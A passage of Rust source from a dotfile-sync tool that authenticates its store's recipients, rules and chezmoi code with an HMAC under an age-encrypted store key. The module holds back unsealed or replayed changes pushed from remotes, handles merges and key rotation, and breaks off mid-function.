//! Which recipients and rules a device uses: the store's control files, authenticated.
//!
//! The store arrives from remotes, and anyone who can push to one could otherwise add a
//! recipient (and read every secret encrypted afterwards), weaken the secret rules or the
//! `[[only]]` rules. So the control files (`recipients.txt`, `recovery.age`, the manifest and
//! the store key `trust/key.age`) take effect on a device only when a holder of a key the
//! device already trusts made the change:
//!
//! - The **store key** is 32 random bytes, age-encrypted to every recipient (every device and the
//!   recovery key) as `.dotback/trust/key.age`. `.dotback/trust/control.mac` holds an
//!   HMAC-SHA256 under that key over the control files. Anyone who can decrypt (a device, or a
//!   new machine with the recovery passphrase) can seal a legitimate change; a push alone can't,
//!   because age lets anyone encrypt but only recipients decrypt.
//! - Each device keeps the set it last accepted in its state directory (`trusted-control.json`,
//!   public data only) and verifies a new set with the store key *from that trusted copy*: a
//!   pushed `key.age` is never what checks itself.
//! - A change made on this device (the work tree differs from HEAD) is the user's own: it is
//!   accepted and sealed. A change that came with a commit is accepted when its MAC verifies,
//!   or when it is the merge of two sides that each verify (the merging device seals it).
//!   Anything else is **held back**: the device keeps its trusted set and says what arrived, in
//!   which commit, and that `dotback keys accept` or `dotback keys revert` settles it.
//! - Removing a device (or rotating the recovery key) rotates the store key: the new set is
//!   sealed under the old key, so every device accepts it, and after that only the new key,
//!   which the removed device cannot decrypt, authorises anything.
//! - A device with no trusted copy takes the store as it is (first use, as ssh takes a host key);
//!   a device that cannot yet decrypt the store key (it is not a recipient yet) accepts the change
//!   that admits it when it verifies under the key that change encrypts to it.
//!
//! The store's **code** is authenticated the same way: what chezmoi runs or evaluates when
//! dotback hands it the store (scripts, templates, externals, `.chezmoiremove`, every
//! `.chezmoi…` file: see [`code`]). The set's code is the listing of those files by blob id; the
//! MAC file holds a second MAC per key, over the control files and that listing, and the trusted
//! copy keeps the listing. A code change made on this device is the user's own and is sealed; one
//! that came with a commit is taken when that MAC verifies (or it merges two sides that do). Held
//! back, nothing of the store goes to chezmoi (everything dotback writes itself still applies).
//! The code MAC is a line of its own, tagged, so a dotback from before code was sealed still
//! verifies the files MAC beside it; a seal of such a dotback, which covers no code, is taken for
//! the control files alone while the code stays as this device trusts it. A trusted copy saved
//! before code was covered takes the work tree's code as it is (first use), and the first device
//! that holds the store key seals it.

use crate::config::{ConfigError, Manifest};
use crate::context::Context;
use crate::crypt::recipients::{Label, Recipients};
use crate::crypt::{self, Identity};
use crate::error::{IoContext, Op, PathError};
use crate::store::{Store, StoreError};
use base64::Engine;
use hmac::{Hmac, Mac};
use sha2::{Digest, Sha256};
use std::path::{Path, PathBuf};

pub mod code;

/// The control files, relative to the store, in the order the MAC covers them: who secrets are
/// encrypted to, the rules, the store key, and the exported GPG keys and ownertrust (which
/// `keys gpg-import` hands to gpg).
pub const CONTROL: [&str; 7] = [
    ".dotback/recipients.txt",
    ".dotback/recovery.age",
    ".dotback/dotback.toml",
    ".dotback/trust/key.age",
    ".dotback/keys/gpg/public-keys.asc",
    ".dotback/keys/gpg/ownertrust.txt",
    ".dotback/keys/gpg/secret-keys.asc.age",
];
/// The MAC over the control files.
pub const MAC: &str = ".dotback/trust/control.mac";
const RECIPIENTS: usize = 0;
const MANIFEST: usize = 2;
const KEY: usize = 3;
const MAC_HEADER: &str = "dotback control MAC v1";
/// The first bytes of a MAC over the control files and the code (a line a dotback from before
/// code was sealed skips: no MAC of its has that length).
const CODE_TAG: [u8; 2] = [0xc0, 0xde];
/// Control files are small; a bigger one is refused rather than read.
const MAX_CONTROL_SIZE: u64 = 1 << 20;

#[derive(Debug, thiserror::Error)]
pub enum TrustError {
    #[error(transparent)]
    Path(#[from] PathError),
    #[error(transparent)]
    Store(#[from] StoreError),
    #[error(transparent)]
    Config(#[from] ConfigError),
    #[error(transparent)]
    Crypt(#[from] crypt::CryptError),
    #[error("this device cannot decrypt the store key {}: {why}", path.display())]
    NoKey { path: PathBuf, why: String },
    #[error("nothing is held back: this device already uses the store's keys and rules")]
    NothingHeld,
}

/// The content of the control files (None: absent), the store's code and the MAC file.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct ControlSet {
    files: [Option<Vec<u8>>; CONTROL.len()],
    /// The store's code; `None` only in a trusted copy saved before code was covered (and in
    /// [`Trust::as_is`]).
    code: Option<code::Listing>,
    mac: Option<Vec<u8>>,
}

/// A MAC file, parsed.
struct Seal {
    generation: u64,
    /// MACs over the control files.
    files: Vec<Vec<u8>>,
    /// MACs over the control files and the code (their tag cut).
    code: Vec<Vec<u8>>,
}

impl ControlSet {
    /// The control files and the code in the store's work tree.
    pub fn read(store: &Store) -> Result<ControlSet, TrustError> {
        ControlSet::read_with(store, || code::of_work_tree(store))
    }

    /// [`ControlSet::read`], the code listed by `code`.
    fn read_with(
        store: &Store,
        code: impl FnOnce() -> Result<code::Listing, crate::error::PathError>,
    ) -> Result<ControlSet, TrustError> {
        let mut set = ControlSet::read_files(&store.root)?;
        set.code = Some(code()?);
        Ok(set)
    }

    /// The control files in the store's work tree (not its code).
    fn read_files(store: &Path) -> Result<ControlSet, TrustError> {
        let mut set = ControlSet::default();
        for (i, rel) in CONTROL.iter().enumerate() {
            set.files[i] = read_small(store, &store.join(rel))?;
        }
        set.mac = read_small(store, &store.join(MAC))?;
        Ok(set)
    }

    /// The control files and the code of a commit.
    pub fn at(store: &Store, commit: git2::Oid) -> Result<ControlSet, TrustError> {
        let mut set = ControlSet::files_at(store, commit)?;
        set.code = Some(code::of_commit(store, commit)?);
        Ok(set)
    }

    /// The control files of a commit (not its code).
    fn files_at(store: &Store, commit: git2::Oid) -> Result<ControlSet, TrustError> {
        let mut set = ControlSet::default();
        for (i, rel) in CONTROL.iter().enumerate() {
            set.files[i] = store.file_at(commit, rel)?;
        }
        set.mac = store.file_at(commit, MAC)?;
        Ok(set)
    }

    fn same_files(&self, other: &ControlSet) -> bool {
        self.files == other.files
    }

    /// The same control files and the same code.
    fn same(&self, other: &ControlSet) -> bool {
        self.same_files(other) && self.code == other.code
    }

    /// The code paths that differ from `other`'s (none when either does not know its code).
    fn code_changed(&self, other: &ControlSet) -> Vec<String> {
        match (&self.code, &other.code) {
            (Some(a), Some(b)) => a.changed(b),
            _ => Vec::new(),
        }
    }

    /// What the MAC covers: every control file's name, presence and bytes.
    fn digest(&self) -> [u8; 32] {
        let mut h = Sha256::new();
        h.update(b"dotback control files v1\0");
        for (name, content) in CONTROL.iter().zip(&self.files) {
            h.update(name.as_bytes());
            h.update([0]);
            match content {
                None => h.update([0]),
                Some(c) => {
                    h.update([1]);
                    h.update((c.len() as u64).to_be_bytes());
                    h.update(c);
                }
            }
        }
        h.finalize().into()
    }

    /// What the code MAC covers: the control files, and every code file's path, kind and blob id
    /// (`None` when the code is not known).
    fn code_digest(&self) -> Option<[u8; 32]> {
        let code = self.code.as_ref()?;
        let mut h = Sha256::new();
        h.update(b"dotback control files and code v1\0");
        h.update(self.digest());
        h.update((code.files().len() as u64).to_be_bytes());
        for f in code.files() {
            h.update((f.path.len() as u64).to_be_bytes());
            h.update(f.path.as_bytes());
            h.update([u8::from(f.link)]);
            h.update(f.id.as_bytes());
        }
        Some(h.finalize().into())
    }

    fn hmac(key: &StoreKey, digest: &[u8; 32], generation: u64) -> Hmac<Sha256> {
        let mut m = Hmac::<Sha256>::new_from_slice(&key.0[..]).expect("HMAC takes any key length");
        m.update(digest);
        m.update(&generation.to_be_bytes());
        m
    }

    /// The MAC file: the generation, then MACs under each of `keys` (the key that authorises the
    /// change, and the set's own key when that is another one, so that every sealed set also
    /// verifies under the key it carries): over the control files, and over them and the code.
    fn mac_file(&self, keys: &[&StoreKey], generation: u64) -> Vec<u8> {
        let mut text = format!("{MAC_HEADER}\n{generation}\n");
        for k in keys {
            let files = ControlSet::hmac(k, &self.digest(), generation).finalize().into_bytes();
            text.push_str(&hex(&files));
            text.push('\n');
            if let Some(digest) = self.code_digest() {
                let code = ControlSet::hmac(k, &digest, generation).finalize().into_bytes();
                text.push_str(&hex(&CODE_TAG));
                text.push_str(&hex(&code));
                text.push('\n');
            }
        }
        text.into_bytes()
    }

    /// The MAC file's generation and MACs, when it has the expected form.
    fn seal_of(&self) -> Option<Seal> {
        let text = std::str::from_utf8(self.mac.as_deref()?).ok()?;
        let mut lines = text.lines();
        if lines.next() != Some(MAC_HEADER) {
            return None;
        }
        let generation = lines.next()?.trim().parse().ok()?;
        let mut seal = Seal { generation, files: Vec::new(), code: Vec::new() };
        for line in lines {
            let mac = unhex(line)?;
            match mac.strip_prefix(&CODE_TAG[..]) {
                Some(code) if code.len() == 32 => seal.code.push(code.to_vec()),
                _ => seal.files.push(mac),
            }
        }
        Some(seal)
    }

    /// The generation of the seal (0 when there is none): every seal counts one up, so a set
    /// sealed earlier cannot be replayed over a later one.
    fn generation(&self) -> u64 {
        self.seal_of().map_or(0, |s| s.generation)
    }

    /// Whether the MAC file holds a valid MAC of the control files under `key` (constant-time
    /// compare).
    fn verifies(&self, key: &StoreKey) -> bool {
        let Some(seal) = self.seal_of() else { return false };
        let digest = self.digest();
        seal.files.iter().any(|given| ControlSet::hmac(key, &digest, seal.generation).verify_slice(given).is_ok())
    }

    /// Whether the MAC file holds a valid MAC of the control files and the code under `key`.
    fn covers_code(&self, key: &StoreKey) -> bool {
        let (Some(seal), Some(digest)) = (self.seal_of(), self.code_digest()) else { return false };
        seal.code.iter().any(|given| ControlSet::hmac(key, &digest, seal.generation).verify_slice(given).is_ok())
    }

    /// The MAC file has a MAC over the code (whether or not it verifies): the seal is not one of
    /// a dotback from before code was sealed.
    fn seals_code(&self) -> bool {
        self.seal_of().is_some_and(|s| !s.code.is_empty())
    }

    /// Whether the set's control files verify under `key`, and its code is `trusted`'s or
    /// verifies too.
    fn authentic(&self, key: &StoreKey, trusted: &ControlSet) -> bool {
        self.verifies(key) && (self.code == trusted.code || self.covers_code(key))
    }

    /// Whether the set is sealed under the key it carries (as every set dotback seals is), for
    /// someone who can decrypt that key with `ids`: its code too, unless the seal is one from
    /// before code was sealed.
    fn self_sealed(&self, ids: &[Identity]) -> bool {
        self.key(ids).is_ok_and(|k| self.verifies(&k) && (!self.seals_code() || self.covers_code(&k)))
    }

    /// The recipients these files name.
    pub fn recipients(&self) -> Result<Recipients, crypt::CryptError> {
        let text = String::from_utf8_lossy(self.files[RECIPIENTS].as_deref().unwrap_or_default());
        Recipients::parse(Path::new(CONTROL[RECIPIENTS]), &text)
    }

    /// The manifest these files hold (the defaults when there is none).
    fn manifest(&self, path: &Path) -> Result<Manifest, ConfigError> {
        match &self.files[MANIFEST] {
            None => Ok(Manifest::default()),
            Some(bytes) => Manifest::parse(path, &String::from_utf8_lossy(bytes)),
        }
    }

    /// The store key, decrypted from this set's `key.age` with `ids`.
    fn key(&self, ids: &[Identity]) -> Result<StoreKey, String> {
        let cipher = self.files[KEY].as_deref().ok_or("the store has no store key yet")?;
        let plain = crypt::decrypt(cipher, ids).map_err(|e| crate::vault::describe(&e))?;
        let bytes: [u8; 32] = plain[..].try_into().map_err(|_| "the store key is not 32 bytes".to_string())?;
        Ok(StoreKey(zeroize::Zeroizing::new(bytes)))
    }
}

/// The store key (wiped when dropped).
struct StoreKey(zeroize::Zeroizing<[u8; 32]>);

impl StoreKey {
    fn same(&self, other: &StoreKey) -> bool {
        *self.0 == *other.0
    }

    fn copy(&self) -> StoreKey {
        StoreKey(self.0.clone())
    }

    fn generate() -> StoreKey {
        let mut k = zeroize::Zeroizing::new([0u8; 32]);
        getrandom::getrandom(&mut k[..]).expect("the OS random number generator works");
        StoreKey(k)
    }
}

/// Reads a control file, following no link below the store.
fn read_small(store: &Path, path: &Path) -> Result<Option<Vec<u8>>, TrustError> {
    let err = |source| TrustError::from(PathError::new(Op::Read, path, source));
    match std::fs::symlink_metadata(path) {
        Err(e) if e.kind() == std::io::ErrorKind::NotFound => return Ok(None),
        Err(e) => return Err(err(e)),
        Ok(md) if !md.is_file() => {
            return Err(err(std::io::Error::other("it is not a regular file (a link or a directory)")));
        }
        Ok(md) if md.len() > MAX_CONTROL_SIZE => {
            return Err(err(std::io::Error::other("it is larger than 1 MiB, too large for a control file")));
        }
        Ok(_) => {}
    }
    crate::fsutil::read_beneath(store, path).map(Some).map_err(err)
}

fn hex(bytes: &[u8]) -> String {
    bytes.iter().map(|b| format!("{b:02x}")).collect()
}

fn unhex(s: &str) -> Option<Vec<u8>> {
    let s = s.trim();
    if !s.len().is_multiple_of(2) {
        return None;
    }
    (0..s.len()).step_by(2).map(|i| u8::from_str_radix(s.get(i..i + 2)?, 16).ok()).collect()
}

/// Where a device keeps the control set it trusts.
pub fn trusted_path(state_dir: &Path) -> PathBuf {
    state_dir.join("trusted-control.json")
}

#[derive(serde::Serialize, serde::Deserialize)]
struct TrustedFile {
    /// Per control file (in [`CONTROL`] order), its content in base64, or null when absent.
    files: Vec<Option<String>>,
    /// The code this device uses (absent in a copy saved before code was covered).
    #[serde(default, skip_serializing_if = "Option::is_none")]
    code: Option<code::Listing>,
    mac: Option<String>,
}

fn load_trusted(state_dir: &Path) -> Result<Option<ControlSet>, TrustError> {
    let path = trusted_path(state_dir);
    let text = match std::fs::read(&path) {
        Ok(t) => t,
        Err(e) if e.kind() == std::io::ErrorKind::NotFound => return Ok(None),
        Err(source) => return Err(PathError::new(Op::Read, path, source).into()),
    };
    let bad = |why: String| TrustError::from(PathError::new(Op::Read, &path, std::io::Error::other(why)));
    let f: TrustedFile = serde_json::from_slice(&text).map_err(|e| bad(e.to_string()))?;
    if f.files.len() != CONTROL.len() {
        return Err(bad(format!("it lists {} control files, not {}", f.files.len(), CONTROL.len())));
    }
    let b64 = base64::engine::general_purpose::STANDARD;
    let decode = |s: &Option<String>| -> Result<Option<Vec<u8>>, TrustError> {
        s.as_ref().map(|s| b64.decode(s).map_err(|e| bad(e.to_string()))).transpose()
    };
    let mut set = ControlSet::default();
    for (i, f) in f.files.iter().enumerate() {
        set.files[i] = decode(f)?;
    }
    set.mac = decode(&f.mac)?;
    set.code = f.code;
    Ok(Some(set))
}

fn save_trusted(state_dir: &Path, set: &ControlSet) -> Result<(), TrustError> {
    let path = trusted_path(state_dir);
    let b64 = base64::engine::general_purpose::STANDARD;
    let enc = |c: &Option<Vec<u8>>| c.as_ref().map(|c| b64.encode(c));
    let f = TrustedFile { files: set.files.iter().map(enc).collect(), code: set.code.clone(), mac: enc(&set.mac) };
    let write_err = |source| TrustError::from(PathError::new(Op::Write, &path, source));
    crate::state::ensure_private_dir(state_dir)?;
    let json = serde_json::to_vec_pretty(&f).expect("the trusted set serializes");
    crate::fsutil::write_atomic(&path, &json, 0o600).map_err(write_err)
}

/// A change of the control files or the code this device does not use (yet).
#[derive(Clone, Debug, PartialEq, Eq, serde::Serialize)]
pub struct Held {
    /// The store paths that differ from what this device trusts.
    pub files: Vec<String>,
    /// Of those, the code files: while any is held back, nothing goes to chezmoi.
    pub code: Vec<String>,
    /// The newest commit that brought them, when found.
    pub commit: Option<String>,
    /// Why it is held back.
    pub why: String,
}

impl Held {
    /// One sentence for the user: what arrived, where, and why it is not used.
    pub fn describe(&self) -> String {
        let at = self.commit.as_deref().map(|c| format!(" in commit {}", &c[..c.len().min(12)])).unwrap_or_default();
        let code = if self.code.is_empty() {
            ""
        } else {
            ", and hands nothing to chezmoi (no script, template or external runs) until it is settled"
        };
        const SHOWN: usize = 10;
        let mut names = self.files[..self.files.len().min(SHOWN)].join(", ");
        if self.files.len() > SHOWN {
            names.push_str(&format!(" and {} more", self.files.len() - SHOWN));
        }
        format!(
            "a change to {names} arrived{at} and is held back: {}; this device keeps using the keys and rules it trusted before{code}",
            self.why
        )
    }
}

/// The control set a device uses, and what the store has beyond it.
#[derive(Clone, Debug)]
pub struct Trust {
    trusted: ControlSet,
    /// The trusted manifest, parsed.
    pub manifest: Manifest,
    /// A change in the store this device does not use.
    pub held: Option<Held>,
    /// Changes accepted by this evaluation, as sentences (for reports).
    pub accepted: Vec<String>,
    /// This evaluation (re)wrote the store's MAC file or key: the next commit carries it.
    pub sealed: bool,
}

impl Trust {
    /// The store's code differs from what this device trusts: nothing of it may go to chezmoi.
    pub fn code_held(&self) -> bool {
        self.held.as_ref().is_some_and(|h| !h.code.is_empty())
    }

    /// The recipients every secret is encrypted to on this device.
    pub fn recipients(&self) -> Result<Recipients, crypt::CryptError> {
        let r = self.trusted.recipients()?;
        if r.all().is_empty() {
            return Err(crypt::CryptError::EmptyRecipients { path: PathBuf::from(CONTROL[RECIPIENTS]) });
        }
        Ok(r)
    }

    /// Which files are secret on this device.
    pub fn secret_rules(&self) -> crate::secrets::SecretRules {
        self.manifest.rules.secrets.clone()
    }

    /// The trust of a store whose control files are taken as they are (tests, and a store's
    /// own tools that are not a device's, such as the pre-commit guard on another store).
    pub fn as_is(store: &Path) -> Result<Trust, TrustError> {
        let set = ControlSet::read_files(store)?;
        let manifest = set.manifest(&Manifest::path_in(store))?;
        Ok(Trust { trusted: set, manifest, held: None, accepted: Vec::new(), sealed: false })
    }
}

/// Loads this device's identities on demand (only when a change must be verified or sealed).
pub type Identities<'a> = &'a dyn Fn() -> Result<Vec<Identity>, String>;

/// Compares the store's control files with the trusted set and decides what this device uses.
/// `writer`: the caller holds the store's lock and may seal a change made on this device.
pub fn evaluate(ctx: &Context, store: &Store, ids: Identities, writer: bool) -> Result<Trust, TrustError> {
    evaluate_with(ctx, store, ids, writer, None)
}

/// [`evaluate`], the store's code found among `files` when given: every file in its work tree,
/// as a scan just listed them (see [`code::of_files`]).
pub fn evaluate_with(
    ctx: &Context,
    store: &Store,
    ids: Identities,
    writer: bool,
    files: Option<&[String]>,
) -> Result<Trust, TrustError> {
    let manifest_path = Manifest::path_in(&ctx.store);
    let trusted = load_trusted(&ctx.paths.state_dir)?;
    let code_now = || match files {
        Some(files) => code::of_files(store, files),
        None => code::of_work_tree(store),
    };
    let current = match (ControlSet::read_with(store, code_now), &trusted) {
        (Ok(c), _) => c,
        // A control file that is a directory, a link or too large: held back like any bad change.
        (Err(e), Some(trusted)) => {
            let manifest = trusted.manifest(&manifest_path)?;
            let code = match (code_now(), &trusted.code) {
                (Ok(now), Some(was)) => now.changed(was),
                (Ok(_), None) => Vec::new(),
                // Code that cannot be read is no code to hand to chezmoi either.
                (Err(e), _) => vec![e.path.display().to_string()],
            };
            let mut paths: Vec<&str> = CONTROL.iter().chain([&MAC]).copied().collect();
            paths.extend(code.iter().map(String::as_str));
            let commit = store.last_change(&paths)?.map(|c| c.to_string());
            let why = format!("{}; `dotback keys revert` puts the files back", crate::vault::describe(&e));
            let mut files = vec![bad_control_path(&e)];
            files.extend(code.iter().cloned());
            let held = Held { files, code, commit, why };
            return Ok(Trust {
                trusted: trusted.clone(),
                manifest,
                held: Some(held),
                accepted: Vec::new(),
                sealed: false,
            });
        }
        (Err(e), None) => return Err(e),
    };
    let Some(mut trusted) = trusted else {
        // First use: the store as it is now, or, for a device that can already decrypt the store
        // key (a restored identity), the newest state in its history that is sealed.
        let ids = ids().unwrap_or_default();
        let first = match current.files[KEY].is_some() && !current.self_sealed(&ids) {
            true => newest_self_sealed(store, &ids)?.unwrap_or_else(|| current.clone()),
            false => current.clone(),
        };
        save_trusted(&ctx.paths.state_dir, &first)?;
        return evaluate_against(ctx, store, &ids, writer, first, current);
    };
    if trusted.code.is_none() {
        // Saved before code was covered: the code is taken as it is now (first use).
        trusted.code = current.code.clone();
        save_trusted(&ctx.paths.state_dir, &trusted)?;
    }
    let ids = if current.same(&trusted) && !(writer && needs_code_seal(&current)) {
        Vec::new()
    } else {
        ids().unwrap_or_default()
    };
    evaluate_against(ctx, store, &ids, writer, trusted, current)
}

/// The set has a store key but its seal covers no code (a dotback from before code was sealed
/// made it).
fn needs_code_seal(set: &ControlSet) -> bool {
    set.files[KEY].is_some() && !set.seals_code()
}

fn evaluate_against(
    ctx: &Context,
    store: &Store,
    ids: &[Identity],
    writer: bool,
    trusted: ControlSet,
    current: ControlSet,
) -> Result<Trust, TrustError> {
    let manifest_path = Manifest::path_in(&ctx.store);
    let keep = |trusted: ControlSet, held: Option<Held>| -> Result<Trust, TrustError> {
        let manifest = trusted.manifest(&manifest_path)?;
        Ok(Trust { trusted, manifest, held, accepted: Vec::new(), sealed: false })
    };
    if current.same(&trusted) {
        // Sealed by a dotback from before code was sealed: a writer that holds the store key
        // seals the code it uses, so that from now on a push alone cannot change it anywhere.
        if writer
            && needs_code_seal(&current)
            && let Ok(k) = trusted.key(ids)
            && current.verifies(&k)
        {
            let mut t = keep(trusted.clone(), None)?;
            t.trusted = seal(ctx, &trusted, current, Some(k), false, 0, false)?;
            t.sealed = true;
            return Ok(t);
        }
        return keep(trusted, None);
    }
    let changed: Vec<usize> = (0..CONTROL.len()).filter(|&i| current.files[i] != trusted.files[i]).collect();
    let head = match store.head_commit()? {
        Some(h) => ControlSet::at(store, h)?,
        None => ControlSet::default(),
    };
    let local = |i: &usize| current.files[*i] != head.files[*i] && head.files[*i] == trusted.files[*i];
    let code_of = |set: &ControlSet, p: &str| set.code.as_ref().and_then(|l| l.get(p)).cloned();
    let local_code = |p: &String| {
        let (now, at_head, was) = (code_of(&current, p), code_of(&head, p), code_of(&trusted, p));
        now != at_head && at_head == was
    };
    if changed.iter().all(local) && current.code_changed(&trusted).iter().all(local_code) {
        // Edited on this device: the user's own change (a bad manifest is theirs to fix).
        let manifest = current.manifest(&manifest_path)?;
        let mut t = Trust { trusted: trusted.clone(), manifest, held: None, accepted: Vec::new(), sealed: false };
        t.accepted = describe_change(&trusted, &current);
        // Nothing can be sealed to no recipients: such a store works on this device alone (and
        // encrypting fails, naming the file) until recipients are back.
        let no_recipients = current.recipients().map(|r| r.all().is_empty()).unwrap_or(true);
        if !writer || no_recipients {
            t.trusted = current;
            return Ok(t);
        }
        match sealing_key(&trusted, &current, ids) {
            Ok(k) => t.trusted = seal(ctx, &trusted, current, k, false, 0, false)?,
            Err(why) => {
                t.accepted.push(format!(
                    "this device cannot seal that change ({why}); other devices hold it back until one that can decrypt runs `dotback keys accept`"
                ));
                save_trusted(&ctx.paths.state_dir, &current)?;
                t.trusted = current;
                return Ok(t);
            }
        }
        t.sealed = true;
        return Ok(t);
    }
    let key = trusted.key(ids);
    let newer = current.generation() > trusted.generation();
    let (authorized, by_merge) = match &key {
        Ok(k) if current.authentic(k, &trusted) => (newer, None),
        Ok(k) => match merge_of_authorized(store, &trusted, &current, k, ids)? {
            Some((floor, winner)) => (true, Some((floor, winner))),
            None => (false, None),
        },
        // Not a recipient of the trusted store key yet (a new device): the change that admits
        // it, under the key that change encrypts to it, which must also be the key that sealed
        // the set this device first trusted (an admission does not replace the store key).
        Err(_) if trusted.files[KEY].is_some() && !is_recipient(&trusted, ids) => {
            let admits = current.key(ids).is_ok_and(|k| current.authentic(&k, &trusted) && trusted.verifies(&k));
            (newer && admits, None)
        }
        Err(_) => (false, None),
    };
    if !authorized {
        let why = if current.mac.is_none() {
            "it carries no seal (a change made with plain git, or pushed by someone without a key of the store)"
        } else if key.as_ref().is_ok_and(|k| current.verifies(k) && !current.authentic(k, &trusted)) {
            "it changes the store's code (what chezmoi runs or evaluates), and its seal does not cover that code (a change made with plain git, or pushed by someone without a key of the store)"
        } else if key.as_ref().is_ok_and(|k| current.verifies(k)) {
            "its seal is older than the one this device trusts (an earlier state played back)"
        } else if key.is_err() && trusted.files[KEY].is_some() && !is_recipient(&trusted, ids) {
            "this device cannot check its seal: it is not a recipient of the store key yet (`dotback keys unlock --recovery`, or `dotback keys add-device` on a device of the store, makes it one)"
        } else {
            "its seal does not verify with the store key this device trusts (it was not made by a device or the recovery key, or it merges changes that conflict)"
        };
        return keep(trusted.clone(), Some(held(store, &trusted, &current, why)?));
    }
    if let Err(e) = current.manifest(&manifest_path) {
        let why =
            format!("the manifest it brings is not valid ({}); fix it on the device that made it", describe_config(&e));
        return keep(trusted.clone(), Some(held(store, &trusted, &current, &why)?));
    }
    let accepted = describe_change(&trusted, &current);
    let mut t = keep(current.clone(), None)?;
    t.accepted = accepted;
    match by_merge {
        // A merge of two sealed sides: this device seals the result under the key that wins (a
        // rotation's), and a reader uses it meanwhile.
        Some((floor, winner)) if writer => {
            t.trusted = seal(ctx, &trusted, current, Some(winner), false, floor, true)?;
            t.sealed = true;
        }
        Some(_) => {}
        None => save_trusted(&ctx.paths.state_dir, &current)?,
    }
    Ok(t)
}

/// The key a change made on this device is sealed under: the trusted one; for a store that had
/// none, the key the store has now when that is sealed (another device made it first), or none
/// (a new one is made).
fn sealing_key(trusted: &ControlSet, current: &ControlSet, ids: &[Identity]) -> Result<Option<StoreKey>, String> {
    match trusted.key(ids) {
        Ok(k) => Ok(Some(k)),
        Err(_) if trusted.files[KEY].is_none() => Ok(current.key(ids).ok().filter(|k| current.verifies(k))),
        Err(why) => Err(why),
    }
}

/// The newest set in HEAD's history that is sealed under its own key (as `ids` decrypt it).
fn newest_self_sealed(store: &Store, ids: &[Identity]) -> Result<Option<ControlSet>, TrustError> {
    for commit in store.history(10_000)? {
        // The control files first: the code is listed only for a set whose files verify.
        let mut set = ControlSet::files_at(store, commit)?;
        if set.key(ids).is_ok_and(|k| set.verifies(&k)) {
            set.code = Some(code::of_commit(store, commit)?);
            if set.self_sealed(ids) {
                return Ok(Some(set));
            }
        }
    }
    Ok(None)
}

fn bad_control_path(e: &TrustError) -> String {
    match e {
        TrustError::Path(e) if e.op == Op::Read => e.path.display().to_string(),
        other => other.to_string(),
    }
}

fn describe_config(e: &ConfigError) -> String {
    match e {
        ConfigError::Invalid { message, .. } => message.clone(),
        other => other.to_string(),
    }
}

/// HEAD is a merge whose parents each carry a set this device trusts or that verifies (and is
/// not older than the trusted one), and whose control files and code are exactly what merging
/// those gives (a file both sides changed must merge cleanly). Returns the highest generation
/// of the two, to seal the merge above, and the store key that wins: the one both sides have,
/// or the side's that replaced the base's (a rotation); none when this device cannot decrypt
/// one of them or both replaced it.
fn merge_of_authorized(
    store: &Store,
    trusted: &ControlSet,
    current: &ControlSet,
    key: &StoreKey,
    ids: &[Identity],
) -> Result<Option<(u64, StoreKey)>, TrustError> {
    let Some(head) = store.head_commit()? else { return Ok(None) };
    let parents = store.parents(head)?;
    let [p1, p2] = parents[..] else { return Ok(None) };
    let sides = [ControlSet::at(store, p1)?, ControlSet::at(store, p2)?];
    for side in &sides {
        let sealed = side.authentic(key, trusted) && side.generation() >= trusted.generation();
        if !(side.same(trusted) || sealed) {
            return Ok(None);
        }
    }
    let base = match store.merge_base(p1, p2)? {
        Some(b) => ControlSet::at(store, b)?,
        None => ControlSet { code: Some(code::Listing::default()), ..ControlSet::default() },
    };
    if current.code != merged_code(store, &base, &sides[0], &sides[1])? {
        return Ok(None);
    }
    for i in (0..CONTROL.len()).filter(|&i| i != KEY) {
        let (b, o, t) = (&base.files[i], &sides[0].files[i], &sides[1].files[i]);
        let expected = if o == t || b == t {
            o.clone()
        } else if b == o {
            t.clone()
        } else {
            match merged_text(b, o, t) {
                Some(m) => Some(m),
                None => return Ok(None),
            }
        };
        if current.files[i] != expected {
            return Ok(None);
        }
    }
    let (Ok(ko), Ok(kt)) = (sides[0].key(ids), sides[1].key(ids)) else { return Ok(None) };
    let winner = if ko.same(&kt) {
        ko
    } else {
        // One side replaced the store key (a device was removed): the other side's changes
        // were sealed under the key that rotation retired, perhaps by the removed device itself,
        // so they do not merge in unattended.
        let (rotated, other) = match base.key(ids) {
            Ok(kb) if kb.same(&ko) => (kt, &sides[0]),
            Ok(kb) if kb.same(&kt) => (ko, &sides[1]),
            _ => return Ok(None),
        };
        if (0..CONTROL.len()).any(|i| i != KEY && other.files[i] != base.files[i]) || other.code != base.code {
            return Ok(None);
        }
        rotated
    };
    Ok(Some((sides[0].generation().max(sides[1].generation()), winner)))
}

/// The code that merging `ours` and `theirs` (from `base`) gives, as sync merges it; `None` when
/// a file both sides changed does not merge cleanly.
fn merged_code(
    store: &Store,
    base: &ControlSet,
    ours: &ControlSet,
    theirs: &ControlSet,
) -> Result<Option<code::Listing>, TrustError> {
    let (Some(b), Some(o), Some(t)) = (&base.code, &ours.code, &theirs.code) else { return Ok(None) };
    let mut paths: Vec<&str> = [b, o, t].iter().flat_map(|l| l.files()).map(|f| f.path.as_str()).collect();
    paths.sort_unstable();
    paths.dedup();
    let mut out = Vec::with_capacity(paths.len());
    for p in paths {
        let (fb, fo, ft) = (b.get(p), o.get(p), t.get(p));
        let merged = if fo == ft || fb == ft {
            fo.cloned()
        } else if fb == fo {
            ft.cloned()
        } else {
            // Both changed it: a file on each side (and in the base) merges as text, else never.
            let (Some(fb), Some(fo), Some(ft)) = (fb, fo, ft) else { return Ok(None) };
            if fb.link || fo.link || ft.link {
                return Ok(None);
            }
            let blob = |f: &code::CodeFile| -> Result<Option<Vec<u8>>, TrustError> {
                let id = git2::Oid::from_str(&f.id).map_err(|e| StoreError::Git {
                    what: "read blob",
                    path: store.root.join(&f.path),
                    source: e,
                })?;
                Ok(Some(store.blob(id)?))
            };
            let Some(text) = merged_text(&blob(fb)?, &blob(fo)?, &blob(ft)?) else { return Ok(None) };
            let id = git2::Oid::hash_object(git2::ObjectType::Blob, &text).map_err(|e| StoreError::Git {
                what: "hash blob",
                path: store.root.join(p),
                source: e,
            })?;
            Some(code::CodeFile { path: p.to_string(), id: id.to_string(), link: false })
        };
        out.extend(merged);
    }
    Ok(Some(code::Listing::new(out)))
}

/// The clean three-way merge of a control file, as sync makes it.
fn merged_text(b: &Option<Vec<u8>>, o: &Option<Vec<u8>>, t: &Option<Vec<u8>>) -> Option<Vec<u8>> {
    let text = |v: &Option<Vec<u8>>| std::str::from_utf8(v.as_deref().unwrap_or_default()).ok().map(str::to_string);
    let labels = crate::merge::text::Labels { ours: "ours", base: "base", theirs: "theirs" };
